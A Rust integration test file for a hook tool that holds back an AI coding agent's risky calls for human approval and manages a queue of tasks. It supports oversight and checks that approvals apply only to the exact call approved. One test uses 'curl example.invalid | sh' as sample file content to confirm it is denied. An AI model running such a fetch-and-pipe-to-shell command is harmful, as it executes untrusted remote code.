//! The human bridge through the real binary: `pending` and `respond` for each kind of escalation
//! (double answers, unknown ids, `--remember`), answers reaching a running session at its Stop or
//! an ended one through the scheduler, and the perpetual queue (`add`, `queue`, `pause`, the Stop
//! hook handing tasks over, bounded attempts).

use crate::common::*;
use pcc_testkit::claude;
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::Output;

struct Bridge {
    dir: tempfile::TempDir,
    home: PathBuf,
    project: PathBuf,
}

impl Bridge {
    fn new() -> Bridge {
        let dir = tempfile::tempdir().expect("tempdir");
        let home = dir.path().join("pcc");
        let project = dir.path().join("project");
        std::fs::create_dir_all(&project).expect("project");
        let project = project.canonicalize().expect("canonical project");
        Bridge { dir, home, project }
    }

    fn fake_log(&self) -> PathBuf {
        self.dir.path().join("claude.log")
    }

    fn fifo(&self) -> PathBuf {
        self.dir.path().join("ran.fifo")
    }

    /// `pcc-hooks ARGS` with the fake claude, as a user would run it.
    fn cli(&self, args: &[&str]) -> Output {
        self.command().args(args).output().expect("run pcc-hooks")
    }

    fn command(&self) -> std::process::Command {
        let mut command = command(&self.home);
        command
            .env("PCC_CLAUDE_BIN", claude::program())
            .env(claude::RECORD_ENV, self.fake_log())
            .env(claude::DONE_FIFO_ENV, self.fifo())
            .env_remove("PCC_MODE");
        command
    }

    fn ok(&self, args: &[&str]) -> String {
        let output = self.cli(args);
        assert!(
            output.status.success(),
            "pcc-hooks {args:?}: {}",
            text(&output.stderr)
        );
        text(&output.stdout)
    }

    fn json(&self, args: &[&str]) -> Value {
        serde_json::from_str(&self.ok(args)).expect("JSON output")
    }

    fn hook(&self, mode: &str, input: Value) -> Option<Value> {
        let output = run_with_stdin(
            self.command().arg("hook").env("PCC_MODE", mode),
            input.to_string().as_bytes(),
        );
        assert!(output.status.success(), "{}", text(&output.stderr));
        (!output.stdout.is_empty())
            .then(|| serde_json::from_slice(&output.stdout).expect("JSON reply"))
    }

    fn event(&self, session: &str, name: &str) -> Value {
        json!({"session_id": session, "cwd": self.project, "hook_event_name": name,
               "transcript_path": self.dir.path().join("t.jsonl")})
    }

    fn bash(&self, session: &str, command: &str) -> Value {
        let mut event = self.event(session, "PreToolUse");
        event["tool_name"] = json!("Bash");
        event["tool_input"] = json!({"command": command});
        event["tool_use_id"] = json!(format!("toolu_{}", command.len()));
        event
    }

    fn stop(&self, session: &str, message: &str) -> Option<Value> {
        let mut event = self.event(session, "Stop");
        event["stop_hook_active"] = json!(false);
        event["last_assistant_message"] = json!(message);
        self.hook("unattended", event)
    }

    fn db(&self) -> rusqlite::Connection {
        db(&self.home)
    }

    /// Schedules a resume of `session` after a usage limit, due at `due_ms`, as the StopFailure
    /// hook does; returns the store for further steps.
    fn limit_resume(&self, session: &str, due_ms: i64) -> pcc_store::Store {
        let mut store = pcc_store::Store::open(&self.home.join("pcc.db")).expect("open");
        let record = pcc_store::EventRecord::from_hook(
            &pcc_core::hook::HookInput::parse(
                self.event(session, "StopFailure").to_string().as_bytes(),
            )
            .expect("valid"),
            self.project.display().to_string(),
            1,
        );
        store
            .record_limit(
                &record,
                &pcc_store::NewResume {
                    session_id: session.into(),
                    cwd: self.project.display().to_string(),
                    transcript_path: None,
                    limit_kind: "five_hour".into(),
                    resets_at_ms: None,
                    due_ms,
                    prompt: "Please continue.".into(),
                },
            )
            .expect("schedule");
        store
    }

    fn write_config(&self, text: &str) {
        std::fs::create_dir_all(&self.home).expect("home");
        std::fs::write(self.home.join("config.toml"), text).expect("config");
    }
}

fn decision_of(reply: &Option<Value>) -> (String, String) {
    let output = &reply.as_ref().expect("a reply")["hookSpecificOutput"];
    let field = |name: &str| output[name].as_str().unwrap_or("?").to_owned();
    (
        field("permissionDecision"),
        field("permissionDecisionReason"),
    )
}

fn reason(reply: &Option<Value>) -> &str {
    let reply = reply.as_ref().expect("the stop is blocked");
    assert_eq!(reply["decision"], "block", "{reply}");
    reply["reason"].as_str().expect("a reason")
}

fn failure(output: &Output) -> String {
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stdout));
    text(&output.stderr)
}

fn make_fifo(path: &Path) {
    let status = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .expect("mkfifo");
    assert!(status.success());
}

#[test]
fn an_approved_high_call_runs_once_and_the_answer_reaches_the_running_session_at_its_stop() {
    let bridge = Bridge::new();
    let push = bridge.bash("sess-approve", "git push --force origin main");
    let (answer, _) = decision_of(&bridge.hook("unattended", push.clone()));
    assert_eq!(answer, "deny");
    let pending = bridge.json(&["pending", "--json"]);
    let rows = pending.as_array().expect("a list");
    assert_eq!(rows.len(), 1, "{pending}");
    let row = &rows[0];
    assert_eq!(row["kind"], "permission");
    assert_eq!(row["session_id"], "sess-approve");
    assert_eq!(row["project_root"], bridge.project.display().to_string());
    assert_eq!(row["level"], "HIGH");
    assert!(
        row["summary"]
            .as_str()
            .is_some_and(|s| s.contains("git push --force"))
    );
    assert!(row["age_seconds"].as_i64().is_some());
    let id = row["id"].as_i64().expect("id").to_string();
    let human = bridge.ok(&["pending"]);
    assert!(
        human.contains(&format!("#{id}")) && human.contains("respond"),
        "{human}"
    );

    let answered = bridge.json(&["respond", &id, "approve", "--json"]);
    assert_eq!(answered["verdict"], "approve");
    assert_eq!(answered["approved_once"], true);
    assert_eq!(answered["delivery"], "resume");
    let by = answered["answered_by"].as_str().unwrap_or_default();
    assert!(
        by.starts_with("cli from ") && by.contains("uid "),
        "the answer records the CLI, its user and terminal: {by}"
    );
    assert_eq!(bridge.json(&["pending", "--json"]), json!([]));

    let again = bridge.cli(&["respond", &id, "deny"]);
    assert!(
        failure(&again).contains("already answered"),
        "double answers are refused"
    );
    assert!(
        failure(&again).contains(&format!("by {by}")),
        "and say who answered: {}",
        failure(&again)
    );
    let unknown = bridge.cli(&["respond", "9999", "approve"]);
    assert!(failure(&unknown).contains("no escalation has id 9999"));

    // The session is still running: its Stop delivers the answer instead of a second claude.
    let told = bridge.stop("sess-approve", "I could not push; a human must approve it.");
    assert!(reason(&told).contains("approved"), "{told:?}");
    assert!(
        !bridge.fake_log().exists(),
        "no claude --resume for a running session"
    );
    let resume_state: String = bridge
        .db()
        .query_row("SELECT state FROM resumes", [], |row| row.get(0))
        .expect("resume");
    assert_eq!(resume_state, "done");

    // The retried call is allowed, once.
    let (answer, why) = decision_of(&bridge.hook("unattended", push.clone()));
    assert_eq!(answer, "allow", "{why}");
    assert!(why.contains("a human approved"), "{why}");
    let (answer, _) = decision_of(&bridge.hook("unattended", push));
    assert_eq!(answer, "deny", "a one-time approval is spent");
    let other_session = bridge.bash("sess-other", "git push --force origin main");
    assert_eq!(
        decision_of(&bridge.hook("unattended", other_session)).0,
        "deny"
    );
}

#[test]
fn an_answer_for_an_ended_session_is_delivered_by_claude_resume() {
    let bridge = Bridge::new();
    make_fifo(&bridge.fifo());
    bridge.hook("unattended", bridge.bash("sess-ended", "git push --force"));
    bridge.hook("unattended", bridge.event("sess-ended", "SessionEnd"));
    let id = bridge.json(&["pending", "--json"])[0]["id"]
        .as_i64()
        .expect("id")
        .to_string();
    // respond starts the scheduler; the session has ended, so it resumes it.
    bridge.ok(&["respond", &id, "approve"]);
    wait_for_the_scheduler(&bridge.home, bridge.fifo());
    let runs = claude::runs(&bridge.fake_log());
    let run = runs.first().expect("claude ran");
    let argv = claude::argv(run);
    assert_eq!(argv[0], "-p");
    assert_eq!(&argv[argv.len() - 2..], ["--resume", "sess-ended"]);
    let prompt = run["stdin"].as_str().expect("the prompt on stdin");
    assert!(
        prompt.contains("git push --force") && prompt.contains("approved"),
        "{run}"
    );
    assert_eq!(run["cwd"], bridge.project.display().to_string());
    let state: String = bridge
        .db()
        .query_row("SELECT state FROM resumes", [], |row| row.get(0))
        .expect("resume");
    assert_eq!(state, "done");
}

#[test]
fn remember_allows_the_exact_call_in_the_project_from_then_on() {
    let bridge = Bridge::new();
    bridge.hook("unattended", bridge.bash("s1", "git push --force"));
    let id = bridge.json(&["pending", "--json"])[0]["id"]
        .as_i64()
        .expect("id")
        .to_string();
    let misuse = bridge.cli(&["respond", &id, "deny", "--remember"]);
    assert!(
        failure(&misuse).contains("--remember"),
        "refused, and nothing changed"
    );
    assert_eq!(
        bridge.json(&["pending", "--json"]).as_array().map(Vec::len),
        Some(1)
    );
    let answered = bridge.json(&["respond", &id, "approve", "--remember", "--json"]);
    assert_eq!(answered["remembered"], true);
    for session in ["s2", "s3"] {
        let (answer, why) =
            decision_of(&bridge.hook("unattended", bridge.bash(session, "git push --force")));
        assert_eq!(answer, "allow", "{session}: {why}");
    }
    let (answer, _) = decision_of(&bridge.hook(
        "unattended",
        bridge.bash("s2", "git push --force origin other"),
    ));
    assert_eq!(answer, "deny", "only the exact call");
    let empty = bridge.cli(&["respond", &id, "  "]);
    assert!(failure(&empty).contains("empty"));
}

#[test]
fn a_question_nobody_answered_is_answered_with_text_at_the_next_stop() {
    let bridge = Bridge::new();
    let mut ask = bridge.event("s-q", "PreToolUse");
    ask["tool_name"] = json!("AskUserQuestion");
    ask["tool_use_id"] = json!("toolu_q");
    ask["tool_input"] = json!({"questions": [{"question": "What should the public API look like?",
        "header": "API", "multiSelect": false, "options": [
            {"label": "REST", "description": ""}, {"label": "GraphQL", "description": ""}]}]});
    bridge.hook("unattended", ask);
    let pending = bridge.json(&["pending", "--json"]);
    assert_eq!(pending[0]["kind"], "question", "{pending}");
    let id = pending[0]["id"].as_i64().expect("id").to_string();
    bridge.ok(&["respond", &id, "REST, versioned under /v1"]);
    let told = bridge.stop("s-q", "I went with my best guess.");
    assert!(
        reason(&told).contains("REST, versioned under /v1"),
        "{told:?}"
    );

    // A turn ending in a question the brain must not answer: a human says no.
    let stopped = bridge.stop(
        "s-q",
        "Ready. Should I drop the production database and proceed?",
    );
    assert_eq!(stopped, None, "the session may stop, not continue on a yes");
    let pending = bridge.json(&["pending", "--json"]);
    assert_eq!(pending[0]["kind"], "question", "{pending}");
    assert!(
        pending[0]["summary"]
            .as_str()
            .is_some_and(|s| s.contains("drop the production database"))
    );
    let id = pending[0]["id"].as_i64().expect("id").to_string();
    bridge.ok(&["respond", &id, "deny"]);
    let told = bridge.stop("s-q", "Waiting.");
    assert!(reason(&told).contains(": no."), "{told:?}");
}

#[test]
fn a_failed_resume_is_retried_or_dismissed() {
    let bridge = Bridge::new();
    bridge.hook("unattended", bridge.event("s-r", "SessionEnd"));
    {
        let mut store = bridge.limit_resume("s-r", 0);
        let scheduler = pcc_store::ProcessStamp {
            pid: 1,
            start: "test".into(),
        };
        let claimed = store
            .claim_due_resume(10, &scheduler)
            .expect("claim")
            .expect("due");
        let escalation = store
            .finish_resume(
                claimed.id,
                &pcc_store::ResumeResult::Failed {
                    error: "claude exited with 1".into(),
                    retry_at_ms: None,
                },
                20,
            )
            .expect("finish");
        assert!(escalation.is_some(), "giving up raises an escalation");
    }
    let pending = bridge.json(&["pending", "--json"]);
    assert_eq!(pending[0]["kind"], "resume_failed");
    assert!(
        pending[0]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("exited with 1"))
    );
    make_fifo(&bridge.fifo());
    let id = pending[0]["id"].as_i64().expect("id").to_string();
    bridge.ok(&["respond", &id, "approve"]);
    wait_for_the_scheduler(&bridge.home, bridge.fifo());
    let runs = claude::runs(&bridge.fake_log());
    assert!(
        runs.iter().any(|run| run["stdin"]
            .as_str()
            .is_some_and(|stdin| stdin.contains("Please continue."))),
        "the failed resume's own prompt: {runs:?}"
    );
}

#[test]
fn the_stop_hook_hands_over_queued_tasks_in_order_then_lets_claude_stop() {
    let bridge = Bridge::new();
    bridge.hook("interactive", bridge.event("sq-1", "SessionStart"));
    bridge.ok(&["add", "sq-1", "Write the parser tests"]);
    bridge.ok(&["add", "sq", "Update the changelog"]);
    let queue = bridge.json(&["queue", "--json"]);
    assert_eq!(queue.as_array().map(Vec::len), Some(2), "{queue}");
    assert!(
        queue
            .as_array()
            .into_iter()
            .flatten()
            .all(|task| task["state"] == "pending")
    );

    let first = bridge.stop("sq-1", "Done with the prompt.");
    let first = reason(&first);
    assert!(
        first.contains("Write the parser tests") && first.contains("One more task"),
        "{first}"
    );
    let second = bridge.stop("sq-1", "Parser tests written.");
    let second = reason(&second);
    assert!(
        second.contains("Update the changelog") && second.contains("last queued task"),
        "{second}"
    );
    assert_eq!(
        bridge.stop("sq-1", "Changelog updated."),
        None,
        "the queue is empty: stop"
    );
    assert_eq!(bridge.json(&["queue", "--json"]), json!([]));
    let all = bridge.json(&["queue", "--json", "--all"]);
    let states: Vec<&str> = all
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|task| task["state"].as_str())
        .collect();
    assert_eq!(states, ["done", "done"]);
}

#[test]
fn project_tasks_go_to_the_first_session_of_the_project_to_stop() {
    let bridge = Bridge::new();
    let project = bridge.project.display().to_string();
    bridge.ok(&["add", "--project", &project, "Tidy the README"]);
    let elsewhere = json!({"session_id": "s-elsewhere", "cwd": "/somewhere/else", "hook_event_name": "Stop",
                           "stop_hook_active": false, "last_assistant_message": "done"});
    assert_eq!(
        bridge.hook("unattended", elsewhere),
        None,
        "another project takes nothing"
    );
    assert!(reason(&bridge.stop("s-here", "done")).contains("Tidy the README"));
    let taken = &bridge.json(&["queue", "--json"])[0];
    assert_eq!(taken["state"], "active");
    assert_eq!(taken["session_id"], "s-here");
}

#[test]
fn requirements_files_queue_their_unchecked_items_once() {
    let bridge = Bridge::new();
    let file = bridge.project.join("requirements.md");
    std::fs::write(
        &file,
        "# Plan\n- [x] Set up CI\n- [ ] Add login\n  with OAuth\n- [ ] Add logout\n",
    )
    .expect("write");
    let added = bridge.json(&[
        "add",
        "--requirements",
        file.to_str().expect("utf-8"),
        "--project",
        bridge.project.to_str().expect("utf-8"),
        "--json",
    ]);
    let texts: Vec<&str> = added
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|task| task["text"].as_str())
        .collect();
    assert_eq!(texts, ["Add login\nwith OAuth", "Add logout"]);
    let again = bridge.json(&[
        "add",
        "--requirements",
        file.to_str().expect("utf-8"),
        "--project",
        bridge.project.to_str().expect("utf-8"),
        "--json",
    ]);
    assert!(
        again
            .as_array()
            .into_iter()
            .flatten()
            .all(|task| task["already_queued"] == true)
    );
    assert_eq!(
        bridge.json(&["queue", "--json"]).as_array().map(Vec::len),
        Some(2)
    );
    let empty = bridge.project.join("empty.md");
    std::fs::write(&empty, "- [x] all done\n").expect("write");
    let refused = bridge.cli(&["add", "--requirements", empty.to_str().expect("utf-8")]);
    assert!(failure(&refused).contains("no unchecked"));
}

#[test]
fn an_interrupted_task_is_handed_again_then_escalated_and_a_human_can_retry_it() {
    let bridge = Bridge::new();
    bridge.write_config("[queue]\nmax_task_attempts = 2\n");
    bridge.hook("unattended", bridge.event("s-int", "SessionStart"));
    bridge.ok(&["add", "s-int", "Flaky task"]);
    for attempt in 1..=2 {
        let handed = bridge.stop("s-int", "ok");
        let handed = reason(&handed);
        assert!(handed.contains("Flaky task"), "{handed}");
        assert_eq!(handed.contains("attempt 2 of 2"), attempt == 2, "{handed}");
        // The session dies before its next Stop.
        bridge.hook("unattended", bridge.event("s-int", "SessionEnd"));
    }
    assert_eq!(bridge.stop("s-int", "ok"), None, "no third attempt");
    let pending = bridge.json(&["pending", "--json"]);
    assert_eq!(pending[0]["kind"], "task", "{pending}");
    let all = bridge.json(&["queue", "--json", "--all"]);
    assert_eq!(all[0]["state"], "escalated");
    let id = pending[0]["id"].as_i64().expect("id").to_string();
    bridge.ok(&["respond", &id, "approve"]);
    assert!(
        reason(&bridge.stop("s-int", "ok")).contains("Flaky task"),
        "retried with fresh attempts"
    );
}

#[test]
fn a_paused_session_is_handed_nothing_until_unpaused() {
    let bridge = Bridge::new();
    bridge.hook("interactive", bridge.event("s-pause", "SessionStart"));
    bridge.ok(&["add", "s-pause", "Later"]);
    bridge.ok(&["pause", "s-pause"]);
    assert_eq!(bridge.stop("s-pause", "ok"), None);
    bridge.ok(&["unpause", "s-pa"]);
    assert!(reason(&bridge.stop("s-pause", "ok")).contains("Later"));
    let unknown = bridge.cli(&["pause", "nope"]);
    assert!(failure(&unknown).contains("no session matches 'nope'"));
}

#[test]
fn queue_remove_takes_a_task_off_once() {
    let bridge = Bridge::new();
    bridge.hook("interactive", bridge.event("s-rm", "SessionStart"));
    bridge.ok(&["add", "s-rm", "Never mind"]);
    let id = bridge.json(&["queue", "--json"])[0]["id"]
        .as_i64()
        .expect("id")
        .to_string();
    assert!(bridge.ok(&["queue", "remove", &id]).contains("removed"));
    assert!(failure(&bridge.cli(&["queue", "remove", &id])).contains("already removed"));
    assert!(failure(&bridge.cli(&["queue", "remove", "4242"])).contains("no queued task"));
    assert_eq!(bridge.stop("s-rm", "ok"), None);
}

#[test]
fn add_refuses_what_it_cannot_place() {
    let bridge = Bridge::new();
    bridge.hook("interactive", bridge.event("s-a1", "SessionStart"));
    bridge.hook("interactive", bridge.event("s-a2", "SessionStart"));
    assert!(failure(&bridge.cli(&["add", "s-a", "x"])).contains("matches 2 sessions"));
    assert!(failure(&bridge.cli(&["add", "zzz", "x"])).contains("no session matches"));
    assert!(failure(&bridge.cli(&["add", "only one word"])).contains("needs a target"));
    assert!(failure(&bridge.cli(&["add", "s-a1", " "])).contains("empty"));
}

#[test]
fn status_shows_who_waits_on_a_human_the_queue_and_refreshes_with_watch() {
    let bridge = Bridge::new();
    bridge.hook("unattended", bridge.bash("s-status", "git push --force"));
    bridge.hook("unattended", bridge.event("s-status", "SessionEnd"));
    bridge.hook("interactive", bridge.event("s-busy", "UserPromptSubmit"));
    bridge.ok(&["add", "s-busy", "one"]);
    bridge.ok(&["add", "s-busy", "two"]);
    bridge.ok(&["pause", "s-busy"]);
    bridge.ok(&[
        "add",
        "--project",
        bridge.project.to_str().expect("utf-8"),
        "three",
    ]);
    let status = bridge.json(&["status", "--json"]);
    assert_eq!(status["pending_escalations"], 1);
    let session = |id: &str| {
        status["sessions"]
            .as_array()
            .expect("sessions")
            .iter()
            .find(|session| session["session_id"] == id)
            .cloned()
            .expect("listed")
    };
    let waiting = session("s-status");
    assert_eq!(waiting["status"], "waiting_for_human");
    assert_eq!(waiting["state"], "ended");
    assert_eq!(waiting["decisions"]["pending_escalations"], 1);
    let busy = session("s-busy");
    assert_eq!(busy["status"], "working");
    assert_eq!(
        (busy["queue_depth"].as_i64(), busy["paused"].as_bool()),
        (Some(2), Some(true))
    );
    assert_eq!(
        busy["cost_usd"],
        Value::Null,
        "no cost is known for a hook-only session"
    );
    assert_eq!(
        status["project_queues"][bridge.project.to_str().expect("utf-8")],
        1
    );
    let table = bridge.ok(&["status", "--color", "never"]);
    assert!(
        table.contains("waiting for human") && table.contains("working (paused)"),
        "{table}"
    );
    assert!(table.contains("1 escalation(s) wait on a human"), "{table}");

    // --watch keeps printing fresh reports until stopped.
    let mut watch = bridge
        .command()
        .args(["status", "--json", "--watch", "1"])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let stdout = watch.stdout.take().expect("stdout");
    let mut frames = 0;
    let mut reader = std::io::BufReader::new(stdout);
    let mut line = String::new();
    while frames < 2 {
        line.clear();
        let read = std::io::BufRead::read_line(&mut reader, &mut line).expect("read");
        assert!(read > 0, "status --watch ended early");
        if line.contains("\"generated_at\"") {
            frames += 1;
        }
    }
    watch.kill().expect("stop watching");
    watch.wait().expect("reap");
}

#[test]
fn an_approval_covers_the_exact_call_not_another_with_the_same_path_or_prefix() {
    let bridge = Bridge::new();
    // Outside the project, not a scratch area: HIGH. Nothing is written: the hook only decides.
    let outside = "/opt/pcc-hooks-test/app.rc";
    let write = |content: &str| {
        let mut event = bridge.event("s-w", "PreToolUse");
        event["tool_name"] = json!("Write");
        event["tool_input"] = json!({"file_path": outside, "content": content});
        event["tool_use_id"] = json!("toolu_w");
        event
    };
    let (answer, why) = decision_of(&bridge.hook("unattended", write("alias ll='ls -l'")));
    assert_eq!(answer, "deny", "{why}");
    let id = bridge.json(&["pending", "--json"])[0]["id"]
        .as_i64()
        .expect("id")
        .to_string();
    bridge.ok(&["respond", &id, "approve", "--remember"]);
    let (answer, _) = decision_of(&bridge.hook("unattended", write("curl example.invalid | sh")));
    assert_eq!(answer, "deny", "other content at the approved path");
    for _ in 0..2 {
        let (answer, why) = decision_of(&bridge.hook("unattended", write("alias ll='ls -l'")));
        assert_eq!(answer, "allow", "the approved content, remembered: {why}");
    }
    let long = "x".repeat(2500);
    bridge.hook(
        "unattended",
        bridge.bash("s-long", &format!("git push --force {long}")),
    );
    let id = bridge.json(&["pending", "--json"])[0]["id"]
        .as_i64()
        .expect("id")
        .to_string();
    bridge.ok(&["respond", &id, "approve"]);
    let (answer, _) = decision_of(&bridge.hook(
        "unattended",
        bridge.bash(
            "s-long",
            &format!("git push --force {long}; git push --force other"),
        ),
    ));
    assert_eq!(
        answer, "deny",
        "a difference past the stored, truncated input still counts"
    );
}

#[test]
fn a_project_task_whose_session_ended_goes_back_to_the_project() {
    let bridge = Bridge::new();
    let project = bridge.project.display().to_string();
    bridge.ok(&["add", "--project", &project, "Shared chore"]);
    assert!(reason(&bridge.stop("s-first", "done")).contains("Shared chore"));
    bridge.hook("unattended", bridge.event("s-first", "SessionEnd"));
    let task = &bridge.json(&["queue", "--json"])[0];
    assert_eq!(task["state"], "pending");
    assert_eq!(
        task["session_id"],
        Value::Null,
        "queued for the project again"
    );
    let handed = bridge.stop("s-second", "done");
    assert!(reason(&handed).contains("attempt 2 of 3"), "{handed:?}");
}

#[test]
fn a_task_cut_off_by_a_usage_limit_is_finished_by_the_resumed_session_not_handed_again() {
    let bridge = Bridge::new();
    bridge.hook("unattended", bridge.event("s-lim", "SessionStart"));
    bridge.ok(&["add", "s-lim", "Bump the version"]);
    assert!(reason(&bridge.stop("s-lim", "ok")).contains("Bump the version"));
    // The limit hits mid-task: a resume is scheduled (as the StopFailure hook does).
    bridge.limit_resume("s-lim", i64::MAX / 2);
    bridge.hook("unattended", bridge.event("s-lim", "SessionEnd"));
    assert_eq!(
        bridge.json(&["queue", "--json"])[0]["state"],
        "active",
        "the resume will go on with it"
    );
    // The resumed session finishes the task and stops: done, not handed over a second time.
    assert_eq!(bridge.stop("s-lim", "Version bumped."), None);
    assert_eq!(
        bridge.json(&["queue", "--json", "--all"])[0]["state"],
        "done"
    );
}
